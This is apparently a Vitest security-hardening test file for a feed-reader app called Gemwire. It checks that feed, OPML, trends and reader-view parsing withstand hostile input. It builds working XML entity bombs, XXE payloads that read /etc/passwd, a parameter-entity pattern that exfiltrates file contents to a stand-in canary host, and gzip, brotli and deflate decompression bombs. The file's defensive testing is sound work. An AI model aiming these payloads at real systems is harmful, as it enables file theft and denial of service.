/**
 * T6 XML entity bombs and external entities, and T7 bombs, endless and dripping bodies,
 * swept over what Gemwire fetches and reads: the built-in feeds' refresh, members' own
 * feeds (adding, and their refresh), OPML imports, the trends RSS, the reader view and
 * blog Extract. An entity is never expanded nor fetched (the canary of the stand-in
 * internet never sees a connection, no file's content reaches anything stored), a body
 * is never read past the client's cap or deadline (the hostile server sees the client
 * hang up), and a refresh that meets any of them fails in plain words and keeps the
 * feed's items (or the trends) it had, on both databases.
 */
import fs from "node:fs";
import zlib from "node:zlib";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadConfig } from "../../server/config.ts";
import { createLogger } from "../../server/logger.ts";
import { openSession } from "../../server/modules/accounts/sessions.ts";
import { refreshDueFeeds, refreshFeed } from "../../server/modules/feeds/refresh.ts";
import { getFeedStatus, upsertArticles } from "../../server/modules/feeds/repository.ts";
import { createMemberFeedFetch } from "../../server/modules/member-feeds/fetch.ts";
import { refreshDueSources } from "../../server/modules/trends/refresh.ts";
import { sourceRows } from "../../server/modules/trends/repository.ts";
import {
  createGuardedFetch,
  DEFAULT_TIMEOUT_MS,
  type GuardedFetch,
  OutboundError,
} from "../../server/outbound/guarded-fetch.ts";
import { joinAsMember } from "../../server/test/accounts.ts";
import { buildTestApp } from "../../server/test/app.ts";
import { openTestDatabase, testDatabaseTargets } from "../../server/test/databases.ts";
import { rss as feedRss } from "../../server/test/feed-server.ts";
import { testItem } from "../../server/test/items.ts";
import { rss as trendsRss } from "../../server/test/trends-sources.ts";
import { FULL, scale } from "../scale.ts";
import { tried } from "../tally.ts";
import { type Route, type StandInInternet, startStandInInternet } from "./outbound-internet.ts";

const silent = createLogger({ logLevel: "silent" });
const MiB = 1024 * 1024;
/** The first line of the machine's password file: it must never turn up in anything stored or answered. */
const PASSWD = fs.readFileSync("/etc/passwd", "utf8").split("\n")[0] as string;

/** Nothing expanded, nothing read from a file, nothing fetched into the text, and the text stays small. */
function expectInertText(text: string, what: string, maxChars: number) {
  expect(text, what).not.toContain(PASSWD);
  expect(text, what).not.toMatch(/root:.*:0:0:/);
  expect(text, what).not.toMatch(/(?:lol){5}/);
  expect(text, what).not.toMatch(/x{200}/);
  expect(text, what).not.toContain("canary");
  expect(text.length, what).toBeLessThanOrEqual(maxChars);
}

/** One hostile XML document's DTD part and what the content refers to. */
type XmlAttack = { label: string; doctype: (root: string) => string; reference: string; utf16?: boolean };

/** The entity bombs and external entities, aimed at the canary (`canary` is its origin). */
function xmlAttacks(canary: string): XmlAttack[] {
  const laughs = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) laughs.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return [
    { label: "billion laughs", doctype: (root) => `<!DOCTYPE ${root} [${laughs.join("")}]>`, reference: "&lol9;" },
    {
      label: "quadratic blowup",
      doctype: (root) => `<!DOCTYPE ${root} [<!ENTITY big "${"x".repeat(scale(50_000, 200_000))}">]>`,
      reference: "&big;".repeat(scale(2_000, 20_000)),
    },
    {
      label: "external entity: a file",
      doctype: (root) => `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
      reference: "&xxe;",
    },
    {
      label: "external entity: the canary over http",
      doctype: (root) => `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "${canary}/xxe">]>`,
      reference: "&xxe;",
    },
    {
      label: "parameter entities: a remote DTD and a file",
      doctype: (root) =>
        `<!DOCTYPE ${root} [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${canary}/evil.dtd">%dtd;<!ENTITY % wrap "<!ENTITY send SYSTEM '${canary}/?%file;'>">%wrap;]>`,
      reference: "&send;",
    },
    {
      label: "external DTD",
      doctype: (root) => `<!DOCTYPE ${root} SYSTEM "${canary}/feed.dtd">`,
      reference: "&fromDtd;",
    },
    {
      label: "public identifier with a file's address",
      doctype: (root) => `<!DOCTYPE ${root} PUBLIC "-//Gemwire//Hostile//EN" "file:///etc/passwd">`,
      reference: "&fromDtd;",
    },
    {
      label: "XInclude of a file",
      doctype: () => "",
      reference: '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    },
    {
      label: "external entity in UTF-16",
      doctype: (root) => `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
      reference: "&xxe;",
      utf16: true,
    },
    {
      label: "a DOCTYPE that never ends",
      doctype: (root) => `<!DOCTYPE ${root} [<!ENTITY open "${"[".repeat(scale(20_000, 2_000_000))}`,
      reference: "&open;",
    },
  ];
}

/** Puts `doctype` after the XML declaration; UTF-16 documents say so and carry a BOM. */
function document(xml: string, doctype: string, utf16 = false): Buffer {
  const body = xml.replace(/^<\?xml[^>]*\?>/, "");
  const declaration = `<?xml version="1.0" encoding="${utf16 ? "UTF-16" : "UTF-8"}"?>`;
  const text = `${declaration}\n${doctype}\n${body.trimStart()}`;
  return utf16 ? Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]) : Buffer.from(text);
}

const answer =
  (body: Buffer | string, type: string, headers: Record<string, string> = {}): Route =>
  (_request, response) =>
    response.writeHead(200, { "content-type": type, ...headers }).end(body);

/** A hostile body, served; `closed` counts the times the client hung up on it. */
type HostileBody = { label: string; route: Route; says: RegExp; closed: () => number };

/** Streams `piece` again and again until the client hangs up, counting hang-ups. */
function endless(label: string, piece: Buffer, headers: Record<string, string>, says: RegExp): HostileBody {
  let closed = 0;
  return {
    label,
    says,
    closed: () => closed,
    route: (_request, response) => {
      response.writeHead(200, { "content-type": "application/rss+xml", ...headers });
      const more = () => {
        while (!response.destroyed && response.write(piece));
        if (!response.destroyed) response.once("drain", more);
      };
      response.on("close", () => closed++);
      more();
    },
  };
}

/** Squeezes `total` zero bytes through `compressor`, 16 MiB at a time (never all in memory). */
async function squeeze(compressor: zlib.Gzip | zlib.Deflate | zlib.BrotliCompress, total: number): Promise<Buffer> {
  const zeros = Buffer.alloc(16 * MiB);
  const out: Buffer[] = [];
  compressor.on("data", (chunk: Buffer) => out.push(chunk));
  const ended = new Promise((resolve) => compressor.on("end", resolve));
  for (let written = 0; written < total; written += zeros.length) {
    if (!compressor.write(zeros)) await new Promise((resolve) => compressor.once("drain", resolve));
  }
  compressor.end();
  await ended;
  return Buffer.concat(out);
}

/** A body sent one byte every `everyMs`, forever; counts hang-ups. */
function drip(everyMs: number): HostileBody {
  let closed = 0;
  return {
    label: `one byte every ${everyMs} ms`,
    says: /within [\d.]+ s/,
    closed: () => closed,
    route: (_request, response) => {
      response.writeHead(200, { "content-type": "application/rss+xml" });
      response.write("<");
      const timer = setInterval(() => response.write(" "), everyMs);
      response.on("close", () => {
        clearInterval(timer);
        closed++;
      });
    },
  };
}

const TOO_LARGE = /larger than \d+ MiB/;

/** The bombs and endless bodies, built once per file: small bodies that inflate to GBs at full size. */
async function hostileBodies(): Promise<HostileBody[]> {
  const gzipMember = zlib.gzipSync(Buffer.alloc(16 * MiB), { level: 9 });
  const members = scale(16, 256); // 256 MiB or 4 GiB once inflated
  const gzipBomb = Buffer.concat(Array.from({ length: members }, () => gzipMember));
  const brotliBomb = await squeeze(
    zlib.createBrotliCompress({ params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 1 } }),
    scale(256, 4096) * MiB,
  );
  const deflateBomb = await squeeze(zlib.createDeflate({ level: 9 }), scale(64, 1024) * MiB);
  const rawDeflateBomb = await squeeze(zlib.createDeflateRaw({ level: 9 }), scale(64, 1024) * MiB);
  const once = (label: string, body: Buffer, encoding: string, says = TOO_LARGE): HostileBody => ({
    label,
    says,
    closed: () => 0,
    route: answer(body, "application/rss+xml", { "content-encoding": encoding }),
  });
  return [
    once(`gzip bomb (${members * 16} MiB inflated)`, gzipBomb, "gzip"),
    once(`brotli bomb (${scale(256, 4096)} MiB inflated)`, brotliBomb, "br"),
    once(`deflate bomb (${scale(64, 1024)} MiB inflated)`, deflateBomb, "deflate"),
    once(`raw deflate bomb (${scale(64, 1024)} MiB inflated)`, rawDeflateBomb, "deflate"),
    once("gzip bomb inside gzip", zlib.gzipSync(gzipBomb), "gzip, gzip"),
    endless("an endless body", Buffer.alloc(64 * 1024, "<item>"), {}, TOO_LARGE),
    endless("an endless stream of gzip bombs", gzipMember, { "content-encoding": "gzip" }, TOO_LARGE),
  ];
}

/**
 * The deadline injected into the clients that meet the drip (the real 20 s one is timed at
 * full size); the bombs meet clients with their real deadline, so a slow machine inflating
 * one never turns the cap's refusal into a timeout.
 */
const DEADLINE_MS = scale(300, 2_000);
const DRIP_MS = scale(40, 500);

describe.each(testDatabaseTargets())("T6–T7 hostile bodies on $dialect", (target) => {
  let net: StandInInternet;
  let handle: Awaited<ReturnType<typeof openTestDatabase>>;
  let members: FastifyInstance;
  let pages: FastifyInstance;
  let bodies: HostileBody[];
  let canary: string;
  const clients: GuardedFetch[] = [];
  const config = loadConfig({ LOG_LEVEL: "silent" });
  /** The built-in feeds' client as main.ts makes it, in the stand-in internet (with `timeoutMs` for the drip). */
  const feedClient = (timeoutMs = DEFAULT_TIMEOUT_MS) => {
    const made = createGuardedFetch({ allowPrivate: config.allowPrivateSources, timeoutMs, ...net.policy });
    clients.push(made);
    return made;
  };
  const refreshContext = (fetcher: GuardedFetch) => ({
    database: handle.database,
    sources: { feeds: [], relays: [] },
    fetcher,
    refreshMs: 300_000,
    retention: { maxItems: 100, maxAgeMs: 30 * 86_400_000 },
    holder: "hardening",
    log: silent,
    sleep: async () => {},
  });
  let n = 0;
  let asked = 0;
  const nextAddress = () => `203.0.113.${(++asked % 250) + 1}`;
  const articles = (key: string) =>
    handle.database.db
      .selectFrom("articles")
      .select(["id", "title", "description", "link"])
      .where("feed_key", "=", key)
      .orderBy("id")
      .execute();

  beforeAll(async () => {
    net = await startStandInInternet();
    canary = `http://127.0.0.1:${net.canaryPort}`;
    handle = await openTestDatabase(target);
    members = await buildTestApp(handle.database, {
      env: { ALLOW_PRIVATE_SOURCES: "1", PRICE_API_URL: `${canary}/api/v3` },
      memberFeeds: { fetchPolicy: net.policy },
    });
    pages = await buildTestApp(handle.database, {
      env: { PRICE_API_URL: `${canary}/api/v3` },
      analysis: { pageFetch: net.policy },
    });
    bodies = await hostileBodies();
  });

  afterAll(async () => {
    await Promise.all(clients.map((made) => made.close()));
    await Promise.allSettled([members.close()]);
    await pages.close();
    await handle.dispose();
    await net.close();
  });

  describe("T6 XML entity bombs and external entities", () => {
    const feedWith = (attack: XmlAttack, id: string) => {
      const { body } = feedRss(`Feed ${attack.reference.length < 200 ? attack.reference : "big"}`, [
        { id, title: `T6 ${attack.reference}`, link: `https://news.example/${id}` },
      ]);
      return document(
        body.replace(`About T6 ${attack.reference}`, attack.reference),
        attack.doctype("rss"),
        attack.utf16,
      );
    };

    it("the built-in feeds' refresh stores no expansion and no file, and fetches nothing", async ({ task }) => {
      const fetcher = feedClient();
      const attacks = xmlAttacks(canary);
      let updated = 0;
      for (const attack of attacks) {
        const path = `/t6-feed-${++n}.xml`;
        net.route(path, answer(feedWith(attack, `t6-${n}`), "application/rss+xml; charset=utf-8"));
        const outcome = await refreshFeed(refreshContext(fetcher), { key: "bitcoin", url: `${net.origin}${path}` });
        const status = await getFeedStatus(handle.database, "bitcoin");
        // Read with the entity left as written, or refused with a clear error.
        if (outcome === "failed") expect(status?.last_error, attack.label).toMatch(/\w/);
        else {
          expect(outcome, attack.label).toBe("updated");
          updated++;
        }
        for (const row of await articles("bitcoin")) expectInertText(JSON.stringify(row), attack.label, 4_000);
      }
      // Most are read as feeds whose entities stay as written: the parser did run over them.
      expect(updated).toBeGreaterThan(attacks.length / 2);
      expect((await articles("bitcoin")).length).toBe(updated);
      expect(net.canaryConnections).toEqual([]);
      tried(task, "xml", attacks.length);
    });

    it("members' feeds: adding one and its refresh store no expansion and no file, and fetch nothing", async ({
      task,
    }) => {
      const attacks = xmlAttacks(canary);
      const member = await joinAsMember(members, handle.database);
      const memberFetch = createMemberFeedFetch(config, {}, net.policy);
      clients.push(memberFetch);
      const keys: string[] = [];
      for (const attack of attacks) {
        const path = `/t6-member-${++n}.xml`;
        net.route(path, answer(feedWith(attack, `t6-${n}`), "application/rss+xml; charset=utf-8"));
        const added = await members.inject({
          method: "POST",
          url: "/api/me/feeds",
          payload: { address: `${net.origin}${path}` },
          cookies: member.cookies,
        });
        // Followed with the entity left as written, or refused in plain words.
        expect([201, 422], added.body).toContain(added.statusCode);
        expectInertText(added.body, attack.label, 2_000);
        if (added.statusCode === 201) keys.push(added.json().feed.key);
      }
      expect(keys.length).toBeGreaterThan(attacks.length / 2);
      await refreshDueFeeds({ ...refreshContext(feedClient()), memberFeeds: { fetcher: memberFetch } });
      let stored = 0;
      for (const key of keys) {
        for (const row of await articles(key)) {
          expectInertText(JSON.stringify(row), key, 4_000);
          stored++;
        }
      }
      expect(stored).toBe(keys.length);
      const listed = await members.inject({ method: "GET", url: "/api/me/feeds", cookies: member.cookies });
      expectInertText(listed.body, "the member's feeds", 40_000);
      expect(net.canaryConnections).toEqual([]);
      tried(task, "xml", attacks.length);
    });

    it("OPML import expands no entity, reads no file and fetches nothing it names", async ({ task }) => {
      const attacks = xmlAttacks(canary).filter((attack) => !attack.reference.startsWith("<"));
      for (const attack of attacks) {
        const member = await joinAsMember(members, handle.database);
        const opml = document(
          `<?xml version="1.0"?><opml version="2.0"><head><title>${attack.reference}</title></head><body><outline text="${attack.reference}" title="${attack.reference}" type="rss" xmlUrl="&url;"/><outline text="x" type="rss" xmlUrl="${canary}/&xxe;"/></body></opml>`,
          attack.doctype("opml").replace("]>", `<!ENTITY url "${canary}/feed.xml">]>`),
        ).toString("utf8");
        const response = await members.inject({
          method: "POST",
          url: "/api/me/feeds/opml",
          cookies: member.cookies,
          payload: { opml },
        });
        // Read with entities as written (so the addresses are refused), or refused whole with a clear 400.
        expect([200, 400], response.body).toContain(response.statusCode);
        if (response.statusCode === 400) expect(response.json().error.message, attack.label).toMatch(/\w/);
        else for (const line of response.json().lines) expect(line.result, attack.label).toBe("refused");
        expectInertText(response.body, attack.label, 5_000);
      }
      expect(net.canaryConnections).toEqual([]);
      tried(task, "xml", attacks.length);
    });

    it("the trends RSS stores no expansion and no file, and fetches nothing", async ({ task }) => {
      const made = createGuardedFetch({
        allowPrivate: config.allowPrivateSources,
        timeoutMs: 10_000,
        ...net.policy,
      });
      clients.push(made);
      const attacks = xmlAttacks(canary);
      let tick = Date.now();
      for (const attack of attacks) {
        const path = `/t6-trends-${++n}`;
        const xml = trendsRss([
          {
            title: "ENTITY",
            traffic: "1000+",
            pubDate: new Date().toUTCString(),
            news: [{ title: "ENTITY", url: "https://news.example/t" }],
          },
        ]).replaceAll("ENTITY", attack.reference);
        net.route(
          path,
          answer(document(xml, attack.doctype("rss"), attack.utf16), "application/rss+xml; charset=utf-8"),
        );
        tick += 120_000;
        const sources = [{ id: "GB", format: "rss" as const, country: "GB" as const, url: `${net.origin}${path}` }];
        await refreshDueSources(
          { database: handle.database, fetcher: made, sources, refreshMs: 60_000, log: silent },
          tick,
        );
        const source = (await sourceRows(handle.database)).find((row) => row.source === "GB");
        expect(source?.last_attempt_at, attack.label).not.toBeNull();
        const stored = await handle.database.db.selectFrom("trends").selectAll().execute();
        for (const row of stored) expectInertText(JSON.stringify(row), attack.label, 8_000);
      }
      expect(net.canaryConnections).toEqual([]);
      tried(task, "xml", attacks.length);
    });

    it("the reader view of an XHTML page expands no entity and reads no file", async ({ task }) => {
      // Each page is read in a worker of its own (about a second): at quick size, three of them.
      const quick = ["billion laughs", "external entity: a file", "parameter entities: a remote DTD and a file"];
      const attacks = xmlAttacks(canary).filter((attack) => !attack.utf16 && (FULL || quick.includes(attack.label)));
      const sentence =
        "Validators voted on Tuesday to halve block times, a change the network's developers had argued over for a year.";
      for (const attack of attacks) {
        const path = `/t6-page-${++n}`;
        const xhtml = document(
          `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>T6</title></head><body><article><h1>A page</h1><p>${attack.reference}</p><p>${sentence}</p><p>${sentence}</p></article></body></html>`,
          attack.doctype("html"),
        );
        net.route(path, answer(xhtml, "application/xhtml+xml; charset=utf-8"));
        const link = `${net.origin}${path}`;
        const now = Date.now();
        await upsertArticles(handle.database, "news", [testItem(`t6-page-${n}`, 1, now, { link })], now);
        const read = await pages.inject({
          method: "GET",
          url: `/api/reader?url=${encodeURIComponent(link)}`,
          remoteAddress: nextAddress(),
        });
        expect(read.statusCode, read.body).toBe(200);
        // The page was fetched and read (or failed in plain words), never "not known".
        expect(net.hits(path), attack.label).toBe(1);
        expect(read.json().reason ?? "", attack.label).not.toMatch(/only articles from its feeds/);
        expectInertText(read.body, attack.label, 20_000 + attack.reference.length * 2);
      }
      expect(net.canaryConnections).toEqual([]);
      tried(task, "xml", attacks.length);
    });
  });

  describe("T7 bombs, endless and dripping bodies", () => {
    const goodFeed = (id: string) =>
      feedRss("A good feed", [
        { id: `${id}-1`, title: "Bitcoin miners sell more than they mine", link: `https://news.example/${id}-1` },
        { id: `${id}-2`, title: "Ether staking yields fall", link: `https://news.example/${id}-2`, hoursAgo: 2 },
      ]);

    it("a built-in feed's refresh stops at the cap and the deadline, says why, and keeps its items", async ({
      task,
    }) => {
      const fetcher = feedClient();
      const hurried = feedClient(DEADLINE_MS);
      const path = "/t7-feed.xml";
      const good = goodFeed("t7");
      net.route(path, answer(good.body, good.type));
      const feed = { key: "market", url: `${net.origin}${path}` };
      expect(await refreshFeed(refreshContext(fetcher), feed)).toBe("updated");
      const kept = await articles("market");
      expect(kept).toHaveLength(2);
      const dripping = drip(DRIP_MS);
      for (const body of [...bodies, dripping]) {
        const closedBefore = body.closed();
        net.route(path, body.route);
        const client = body === dripping ? hurried : fetcher;
        expect(await refreshFeed(refreshContext(client), feed), body.label).toBe("failed");
        expect((await getFeedStatus(handle.database, "market"))?.last_error, body.label).toMatch(body.says);
        expect(await articles("market"), body.label).toEqual(kept);
        // An endless body's server saw the client hang up.
        if (body.label.startsWith("an endless")) await expect.poll(body.closed).toBeGreaterThan(closedBefore);
      }
      // Each of the three attempts hung up on the drip at the deadline.
      await expect.poll(dripping.closed).toBeGreaterThanOrEqual(3);
      tried(task, "body", bodies.length + 1);
    });

    it("a member's feed refresh stops at the cap and the deadline, says why, and keeps its items", async ({ task }) => {
      const member = await joinAsMember(members, handle.database);
      const path = "/t7-member.xml";
      const good = goodFeed("t7m");
      net.route(path, answer(good.body, good.type));
      const address = `${net.origin}${path}`;
      const added = await members.inject({
        method: "POST",
        url: "/api/me/feeds",
        payload: { address },
        cookies: member.cookies,
      });
      expect(added.statusCode, added.body).toBe(201);
      const key = added.json().feed.key as string;
      // The members' client as main.ts makes it (and one with the short deadline for the drip).
      const memberFetch = createMemberFeedFetch(config, {}, net.policy);
      const hurried = createMemberFeedFetch(config, { timeoutMs: DEADLINE_MS }, net.policy);
      clients.push(memberFetch, hurried);
      const context = { ...refreshContext(feedClient()), memberFeeds: { fetcher: memberFetch } };
      expect(await refreshFeed({ ...context, fetcher: memberFetch }, { key, url: address })).toBe("updated");
      const kept = await articles(key);
      expect(kept).toHaveLength(2);
      const dripping = drip(DRIP_MS);
      for (const [i, body] of [...bodies, dripping].entries()) {
        net.route(path, body.route);
        // Due again, for a period of its own (each refresh runs once per due time).
        const due = Date.now() - 60_000 + i;
        await handle.database.db.updateTable("feeds").set({ next_fetch_at: due }).where("key", "=", key).execute();
        const memberFeeds = { fetcher: body === dripping ? hurried : memberFetch };
        const summary = await refreshDueFeeds({ ...context, memberFeeds });
        expect(summary.outcomes.failed, body.label).toBe(1);
        const listed = (await members.inject({ method: "GET", url: "/api/me/feeds", cookies: member.cookies })).json();
        const mine = (
          listed.feeds as Array<{ key: string; lastError: string | null; lastErrorReason: string | null }>
        ).find((feed) => feed.key === key);
        // The member sees what went wrong, in plain words.
        expect(mine?.lastErrorReason, body.label).toMatch(
          body.says === TOO_LARGE ? /larger than \d+ MiB/ : /did not answer in time/,
        );
        expect(await articles(key), body.label).toEqual(kept);
      }
      await expect.poll(dripping.closed).toBeGreaterThanOrEqual(3);
      tried(task, "body", bodies.length + 1);
    });

    it("the trends refresh stops at the cap and the deadline, says why, and keeps the trends it had", async ({
      task,
    }) => {
      // The trends client as main.ts makes it (and one with the short deadline for the drip).
      const trendsClient = (timeoutMs: number) => {
        const made = createGuardedFetch({
          allowPrivate: config.allowPrivateSources,
          timeoutMs,
          maxBytes: 2 * MiB,
          ...net.policy,
        });
        clients.push(made);
        return made;
      };
      const made = trendsClient(10_000);
      const hurried = trendsClient(DEADLINE_MS);
      const path = "/t7-trends";
      const pubDate = new Date().toUTCString();
      net.route(
        path,
        answer(trendsRss([{ title: "halving countdown", traffic: "5000+", pubDate }]), "application/rss+xml"),
      );
      const sources = [{ id: "IN", format: "rss" as const, country: "IN" as const, url: `${net.origin}${path}` }];
      let tick = Date.now();
      const context = { database: handle.database, fetcher: made, sources, refreshMs: 60_000, log: silent };
      await refreshDueSources(context, tick);
      const trends = () => handle.database.db.selectFrom("trends").selectAll().where("country", "=", "IN").execute();
      const kept = await trends();
      expect(kept.length).toBeGreaterThan(0);
      const dripping = drip(DRIP_MS);
      for (const body of [...bodies, dripping]) {
        net.route(path, body.route);
        tick += 120_000;
        const fetcher = body === dripping ? hurried : made;
        expect(await refreshDueSources({ ...context, fetcher }, tick)).toEqual(["IN"]);
        const source = (await sourceRows(handle.database)).find((row) => row.source === "IN");
        expect(source?.last_error, body.label).toMatch(
          body.says === TOO_LARGE ? /larger than \d+ MiB/ : /did not answer in time/,
        );
        expect(await trends(), body.label).toEqual(kept);
      }
      await expect.poll(dripping.closed).toBeGreaterThanOrEqual(1);
      tried(task, "body", bodies.length + 1);
    });

    it("adding a member's feed, the reader view and Extract answer in plain words at the cap", async ({ task }) => {
      const member = await joinAsMember(members, handle.database);
      const admin = { gemwire_admin: await openSession(handle.database, { admin: true }) };
      for (const [i, body] of bodies.entries()) {
        const path = `/t7-ask-${i}`;
        net.route(path, body.route);
        const address = `${net.origin}${path}`;
        const added = await members.inject({
          method: "POST",
          url: "/api/me/feeds",
          payload: { address },
          cookies: member.cookies,
        });
        expect(added.statusCode, body.label).toBe(422);
        expect(added.json().error.message, body.label).toMatch(/larger than 5 MiB/);
        const now = Date.now();
        await upsertArticles(handle.database, "news", [testItem(`t7-${i}`, 1, now, { link: address })], now);
        const read = await pages.inject({
          method: "GET",
          url: `/api/reader?url=${encodeURIComponent(address)}`,
          remoteAddress: nextAddress(),
        });
        expect(read.json(), body.label).toMatchObject({
          status: "failed",
          reason: expect.stringMatching(/larger than 2 MB/),
        });
        const extracted = await pages.inject({
          method: "POST",
          url: "/api/admin/blog/extract",
          payload: { url: address },
          cookies: admin,
          remoteAddress: nextAddress(),
        });
        expect(extracted.statusCode, body.label).toBe(502);
        expect(extracted.json().error.message, body.label).toMatch(/larger than 2 MB/);
      }
      tried(task, "body", bodies.length * 3);
    });
  });
});

/** No database here: the client alone, timed once in real time. */
describe("T7 the real deadline", () => {
  it.runIf(FULL)(
    "the default 20 s deadline holds against a dripping body, in real time (full size only: npm run test:hardening)",
    { timeout: 60_000 },
    async ({ task }) => {
      const net = await startStandInInternet();
      // The built-in feeds' client exactly as main.ts makes it: no deadline given.
      const made = createGuardedFetch({ allowPrivate: loadConfig({}).allowPrivateSources, ...net.policy });
      try {
        const dripping = drip(3_000);
        net.route("/t7-real-drip", dripping.route);
        const failure = await made(`${net.origin}/t7-real-drip`).then(
          () => null,
          (error: unknown) => error,
        );
        expect(failure).toBeInstanceOf(OutboundError);
        expect(failure).toMatchObject({ code: "timeout", message: "No complete answer within 20 s" });
        await expect.poll(() => dripping.closed()).toBe(1);
        expect(net.canaryConnections).toEqual([]);
        tried(task, "body");
      } finally {
        await made.close();
        await net.close();
      }
    },
  );
});
